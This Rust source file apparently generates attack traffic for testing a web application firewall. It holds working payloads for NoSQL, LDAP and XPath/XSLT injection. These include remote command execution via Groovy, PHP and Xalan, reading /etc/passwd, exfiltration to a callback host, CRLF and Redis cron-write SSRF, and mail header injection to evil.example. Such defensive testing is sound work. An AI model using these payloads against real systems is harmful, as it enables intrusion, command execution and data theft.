//! Attacks on other languages of questions and on line-based protocols: document databases by the names of parameters,
//! directory names, XQuery and style sheets, headers of responses, mail.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, payload, request};
use super::super::super::codec;
use super::super::super::encode::Encoding;
use super::super::super::place::Place;
use super::super::super::rng::Rng;
use super::super::super::wire::{JSON, Wire};
use super::tools::{Shot, callback, form, json, loose, path, query, sent};

const AS_WRITTEN: &[Encoding] = &[Encoding::Plain, Encoding::JsonEscape, Encoding::DoublePercent];
const TARGET_ENCODINGS: &[Encoding] = &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    request("nosql-names-and-scripts", AttackClass::Sqli, 30, nosql),
    payload("ldap-names", AttackClass::Ldap, 30, ldap, Place::INPUTS, AS_WRITTEN),
    payload("xquery-and-xslt", AttackClass::Xpath, 30, xquery, Place::INPUTS, AS_WRITTEN),
    request("crlf-paths-and-backends", AttackClass::Crlf, 30, crlf),
    payload("mail-mime", AttackClass::Mail, 30, mail, &[Place::Query, Place::Form], TARGET_ENCODINGS),
];

/// Operators as names of parameters (qs and PHP read `a[$ne]` as an object), aggregation stages, scripts of Elasticsearch
/// and CouchDB.
fn nosql(rng: &mut Rng) -> Shot {
    let (word, n) = (rng.letters(4), rng.below(999));
    let letter = rng.letters(1);
    match rng.below(13) {
        0 => form("/login", format!("username=admin&password[$ne]={word}"), rng),
        1 => form("/api/auth", format!("user[$regex]=^{letter}&pass[%24gt]=&remember={n}"), rng),
        2 => query(format!("/api/users?role[$in][]=admin&name[$exists]=true&limit={n}"), rng),
        3 => query(format!("/search?q%5B%24where%5D=sleep({n}0)%7C%7Ctrue"), rng),
        4 => json(
            "/api/login",
            format!(
                "{{\"username\":{{\"$in\":[\"Admin\",\"admin\",\"root\",\"{word}\"]}},\"password\":{{\"$gte\":\"\"}}}}"
            ),
            rng,
        ),
        5 => json(
            "/api/v1/method.callAnon/getPasswordPolicy",
            format!(
                "{{\"message\":\"{{\\\"msg\\\":\\\"method\\\",\\\"method\\\":\\\"getPasswordPolicy\\\",\\\"params\\\":[{{\\\"token\\\":{{\\\"$regex\\\":\\\"^{letter}{word}\\\"}}}}]}}\"}}"
            ),
            rng,
        ),
        6 => json(
            "/api/report/aggregate",
            format!(
                "[{{\"$lookup\":{{\"from\":\"users\",\"localField\":\"{word}\",\"foreignField\":\"{word}\",\"as\":\"x\"}}}},{{\"$limit\":{n}}}]"
            ),
            rng,
        ),
        7 => json(
            "/_search?pretty",
            format!(
                "{{\"size\":1,\"script_fields\":{{\"{word}\":{{\"script\":\"java.lang.Math.class.forName(\\\"java.lang.Runtime\\\").getRuntime().exec(\\\"id\\\").getText()\",\"lang\":\"groovy\"}}}}}}"
            ),
            rng,
        ),
        8 => {
            let wire = Wire::new("PUT", format!("/_users/org.couchdb.user:{word}")).body(
                JSON,
                format!(
                    "{{\"type\":\"user\",\"name\":\"{word}\",\"roles\":[\"_admin\"],\"roles\":[],\"password\":\"{n}\"}}"
                ),
            );
            (sent(wire, rng), Place::Json, Encoding::Plain)
        }
        9 => json(
            "/api/items/find",
            format!("{{\"filter\":{{\"$or\":[{{}},{{\"{word}\":\"{word}\"}}],\"$comment\":\"{n}\"}}}}"),
            rng,
        ),
        10 => query(format!("/user/lookup?username=admin'%26%26this.password%5B{}%5D=='{letter}'%00", n % 9), rng),
        11 => form("/reset", format!("email={word}%40mail.example&resetToken%5B%24ne%5D=null"), rng),
        _ => json(
            "/api/find",
            format!("{{\"selector\":{{\"_id\":{{\"$gt\":null}},\"pwd\":{{\"$type\":2}}}},\"limit\":{n},\"skip\":0}}"),
            rng,
        ),
    }
}

/// Matching rules, escapes of RFC 4515 and 4514, URLs of directories.
fn ldap(rng: &mut Rng) -> Vec<u8> {
    let (word, n) = (rng.letters(4), rng.between(1, 99));
    let domain = format!("dc={word},dc=example");
    match rng.below(11) {
        0 => format!("*)(memberOf:1.2.840.113556.1.4.1941:=cn=Domain Admins,cn=Users,{domain}"),
        1 => format!("*))%00(|(uid={word}"),
        2 => format!("\\2a)(objectClass=\\2a))(&(cn={word}"),
        3 => format!("{word})(|(uidNumber>={n})(gidNumber<={n}"),
        4 => format!("{word})(sn~=a)(|(telephoneNumber=*"),
        5 => format!("*)(ms-Mcs-AdmPwd=*)(cn={word}"),
        6 => format!("{word})(uid:dn:=*)(|(o=*)(o="),
        7 => format!("{word}*))(|(|(homeDirectory=*)(loginShell=/bin/*"),
        8 => format!("*)(servicePrincipalName=*)(!(cn={word})"),
        9 => format!("x)(|(&(objectClass=person)(!(pwdLastSet={n})))(cn=*"),
        _ => format!("*)(&(objectClass=user)(adminCount=1)(cn={word}*))(&(1=1"),
    }
    .into_bytes()
}

/// Functions of XPath 2 and 3, XQuery, and elements that run when a style sheet is the user's.
fn xquery(rng: &mut Rng) -> Vec<u8> {
    let (word, n) = (rng.letters(4), rng.between(1, 20));
    let away = callback(rng);
    let sheet = |body: &str, spaces: &str| {
        format!(
            "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" {spaces}><xsl:template match=\"/\">{body}</xsl:template></xsl:stylesheet>"
        )
    };
    match rng.below(13) {
        0 => format!("{word}' or matches(//user[{n}]/password,'^[a-m]') or 'a'='b"),
        1 => format!("{word}' and unparsed-text-available('file:///etc/passwd') and '{n}'='{n}"),
        2 => format!("') return doc(concat('http://{away}/',encode-for-uri($x)))//x[.='{word}"),
        3 => format!("{word}' or some $u in //user satisfies $u/role='admin' or '{n}'='"),
        4 => format!("'] union //user[{n}]/password | //{word}['"),
        5 => format!("{word}') or exists(environment-variable('PATH')) or ('{n}'='"),
        6 => format!("{word}\" or string-to-codepoints(substring((//password)[{n}],1,1))>96 or \"\"=\""),
        7 => format!("' or util:eval(\"file:directory-list('/etc','*')\") or '{word}'='"),
        8 => sheet(&format!("<xsl:value-of select=\"document('http://{away}/{word}')\"/>"), ""),
        9 => sheet(
            &format!("<xsl:value-of select=\"php:function('system','id;{word}')\"/>"),
            "xmlns:php=\"http://php.net/xsl\"",
        ),
        10 => sheet(
            &format!("<xsl:variable name=\"{word}\" select=\"rt:exec(rt:getRuntime(),'id')\"/>"),
            "xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"",
        ),
        11 => sheet(&format!("<xsl:value-of select=\"unparsed-text('/etc/passwd','utf-8')\"/>{word}"), ""),
        _ => format!("{word}' and (for $i in /* return if ($i/name()='{word}') then true() else error()) and 'x'='"),
    }
    .into_bytes()
}

/// Lines in paths, redirect targets, host names and session names, as scanners try them one after the other; commands for
/// Redis, memcached and FTP behind the application.
fn crlf(rng: &mut Rng) -> Shot {
    let (word, n) = (rng.letters(6), rng.below(99_999));
    let away = callback(rng);
    match rng.below(13) {
        0 => path(format!("/%0D%0ASet-Cookie:crlfinjection={word}"), rng),
        1 => path(format!("/%0a%20X-Injected-{word}:%20true"), rng),
        2 => path(
            format!(
                "/%3f%0d%0aLocation:%0d%0a{word}:{n}%0d%0aX-XSS-Protection:0%0d%0a%0d%0a%3csvg%20onload=alert({n})%3e"
            ),
            rng,
        ),
        3 => path(format!("/%23%0D%0ALocation://{away}"), rng),
        4 => path(format!("/{word}%3f%0dSet-Cookie:whoami={n}"), rng),
        5 => query(format!("/login?service=http://{word}.example%0d%0aSet-Cookie:%20PHPSESSID={n};%20Path=/"), rng),
        6 => query(format!("/wechat/jump?url=https://{word}.example/%0D%0A%0D%0A%3Chtml%3E%3Ch1%3E{n}"), rng),
        7 => query(
            format!(
                "/proxy?url={}",
                codec::percent(format!(
                    "http://127.0.0.1:6379/\r\nCONFIG SET dir /var/spool/cron/\r\nCONFIG SET dbfilename root\r\nSET {word} {n}\r\nSAVE\r\n"
                ))
            ),
            rng,
        ),
        8 => query(
            format!(
                "/fetch?u={}",
                codec::percent(format!("http://127.0.0.1:11211/ HTTP/1.1\r\nset {word} 0 60 5\r\n{n:05}\r\n"))
            ),
            rng,
        ),
        9 => (
            sent(
                Wire::get("/").header(
                    "Cookie",
                    format!("sid=a%20%0d%0aset%20session:{word}%200%203600%205%0d%0aadmin%0d%0a; lang=zh"),
                ),
                rng,
            ),
            Place::Cookie,
            Encoding::Plain,
        ),
        10 => query(
            format!(
                "/download?name={word}.pdf%22%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert({n})%3C/script%3E"
            ),
            rng,
        ),
        11 => form(
            "/user/lang",
            format!(
                "lang=zh_CN%0d%0aContent-Length:0%0d%0a%0d%0aHTTP/1.1%20302%20Found%0d%0aLocation:http://{away}/{word}"
            ),
            rng,
        ),
        _ => query(
            format!(
                "/export?to={}",
                loose(format!("ftp://{word}:x@192.0.2.9/a\r\nPORT 192,0,2,9,0,{}\r\nRETR {word}", n % 256))
            ),
            rng,
        ),
    }
}

/// Parts, attachments and invitations behind a header; headers folded out of an encoded word.
fn mail(rng: &mut Rng) -> Vec<u8> {
    let (word, n) = (rng.letters(5), rng.digits(6));
    let end = rng.pick(&["\r\n", "\n"]);
    match rng.below(8) {
        0 => format!("关于预约{end}MIME-Version: 1.0{end}Content-Type: multipart/mixed; boundary=\"{n}\"{end}{end}--{n}{end}Content-Type: text/html{end}{end}<a href=http://{word}.example>x</a>{end}--{n}--"),
        1 => format!("{word}@mail.example{end}Reply-To: {word}@evil.example{end}X-Mailer: {n}"),
        2 => format!("{word}@mail.example{end}bcc:{}", (0..4).map(|at| format!("{word}{at}@evil.example")).collect::<Vec<_>>().join(",")),
        3 => format!("投诉{end}Content-Type: application/octet-stream; name=\"{word}.exe\"{end}Content-Transfer-Encoding: base64{end}{end}TVqQAAMAAAAEAAAA"),
        4 => format!("\"{word}\" <{word}@mail.example>{end}Return-Path: <bounce{n}@evil.example>{end}Sender: admin@boai.example"),
        5 => format!("{word}{end}Disposition-Notification-To: {word}@evil.example"),
        6 => format!("x{end}.{end}RSET{end}MAIL FROM:<{word}@boai.example>{end}RCPT TO:<{n}@evil.example>{end}DATA"),
        _ => format!("{word}@mail.example{end}Resent-Bcc: {word}{n}@evil.example{end}List-Unsubscribe: <mailto:{word}@evil.example>"),
    }
    .into_bytes()
}
